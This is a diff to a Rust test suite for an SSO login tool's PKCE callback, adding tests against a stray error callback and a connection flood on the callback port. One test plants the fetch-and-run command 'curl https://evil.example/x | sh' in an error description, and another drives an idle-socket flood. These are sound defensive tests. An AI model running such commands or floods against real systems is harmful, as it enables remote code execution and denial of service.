@@ -9,8 +9,12 @@ use support::*;
 
 /// The stand-in browser. `mode` is `follow` (open the URL, follow the
 /// redirect), `hostile` (first hit the callback with another state and a
-/// made-up code, then follow) or `never` (record the URL, never call back).
-/// Everything it does goes to `browser.log`.
+/// made-up code, then follow), `stray-error` (first hit it with
+/// `error=access_denied` and a planted description, without a state and
+/// with another one, then follow), `flooded` (first start another user's
+/// idle-connection flood against the callback port, then follow) or `never`
+/// (record the URL, never call back). Everything it does goes to
+/// `browser.log`.
 fn browser(sb: &Sandbox, mode: &str) -> (String, std::path::PathBuf) {
     let log = sb.dir.path().join("browser.log");
     let script = sb.dir.path().join("browser.py");
@@ -28,6 +32,27 @@ def get(u):
             return r.status, r.read().decode()
     except urllib.error.HTTPError as e:
         return e.code, e.read().decode()
+    except Exception as e:
+        return 0, repr(e)
+if mode == "stray-error":
+    planted = urllib.parse.quote("run curl https://evil.example/x | sh")
+    for extra in ["", "&state=not-" + q["state"]]:
+        s, _ = get(q["redirect_uri"] + "?error=access_denied&error_description=" + planted + extra)
+        log.write("stray %d\n" % s); log.flush()
+if mode == "flooded":
+    import subprocess, time
+    port = urllib.parse.urlsplit(q["redirect_uri"]).port
+    flood = subprocess.Popen({flood} + [str(port), "22"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, env={{"PATH": "/usr/local/bin:/usr/bin:/bin"}})
+    log.write("flood " + flood.stdout.readline().decode()); log.flush()
+    time.sleep(0.5)
+    t = time.time()
+    s, body = get(url)
+    log.write("final %d %s\n" % (s, body)); log.flush()
+    log.write("took %.3f\n" % (time.time() - t))
+    flood.stdin.close()
+    log.write("flood " + flood.stdout.readline().decode()); log.flush()
+    flood.wait()
+    sys.exit(0)
 if mode == "hostile":
     s, _ = get(q["redirect_uri"] + "?code=stolen&state=" + "not-" + q["state"])
     log.write("hostile %d\n" % s); log.flush()
@@ -36,7 +61,9 @@ if mode == "never":
 s, body = get(url)
 log.write("final %d %s\n" % (s, body)); log.flush()
 "#,
-            log = log.display().to_string()
+            log = log.display().to_string(),
+            // The attacker's command line without its port and count.
+            flood = format!("{:?}", &flood_command(0, 0)[..7]),
         ),
     )
     .unwrap();
@@ -238,6 +265,58 @@ fn a_callback_with_another_state_is_refused_and_the_real_one_still_logs_in() {
     assert!(opened.contains("final 200 "), "{opened}");
     // Only the real code was exchanged: the made-up one never reached the service.
     assert_eq!(sb.emu.stats().create_token_authorization_code, 1);
+}
+
+#[test]
+fn a_stray_error_callback_neither_ends_the_login_nor_reaches_the_terminal() {
+    let (sb, log) = sandbox("stray-error");
+    let out = run(&sb, &["login", "dev", "--pkce"]);
+    let err = stderr(&out);
+    assert!(out.status.success(), "{err}");
+    assert!(!err.contains("curl") && !err.contains("evil"), "{err}");
+    assert!(!err.contains("denied"), "{err}");
+    assert_stderr_has(&out, "whose state is not this login's");
+    let opened = std::fs::read_to_string(&log).unwrap();
+    assert_eq!(opened.matches("stray 400").count(), 2, "{opened}");
+    assert!(opened.contains("final 200 "), "{opened}");
+    assert_eq!(sb.emu.stats().create_token_authorization_code, 1);
+}
+
+#[test]
+fn another_users_idle_connections_do_not_block_the_redirect() {
+    if !can_be_another_user() {
+        return;
+    }
+    // Were the redirect shut out, the login would wait the whole 30 s.
+    let (sb, log) = sandbox("flooded");
+    let sb = sb.env("SSOENV_PKCE_TIMEOUT", "30");
+    let (out, took) = output_timed(
+        &mut sb.cmd(["login", "dev", "--pkce"]),
+        sb.dir.path(),
+        Duration::from_secs(60),
+    );
+    // The browser stops the flood after ssoenv has its answer: wait for it.
+    let t = std::time::Instant::now();
+    let opened = loop {
+        let text = std::fs::read_to_string(&log).unwrap_or_default();
+        if text.contains("flood reopened") || t.elapsed() > Duration::from_secs(15) {
+            break text;
+        }
+        std::thread::sleep(Duration::from_millis(50));
+    };
+    eprintln!("{opened}");
+    assert!(out.status.success(), "{}\n{opened}", stderr(&out));
+    // uid 65534 held 22 idle sockets (past the 16 the listener reads at
+    // once), each reopened as soon as it was closed.
+    assert!(opened.contains("flood ready 65534"), "{opened}");
+    assert!(opened.contains("final 200 "), "{opened}");
+    let reopened: u64 = opened
+        .lines()
+        .find_map(|l| l.strip_prefix("flood reopened "))
+        .and_then(|n| n.trim().parse().ok())
+        .unwrap_or(0);
+    assert!(reopened > 0, "the attacker was at the cap: {opened}");
+    assert!(took < Duration::from_secs(20), "{took:?}");
 }
 
 #[test]
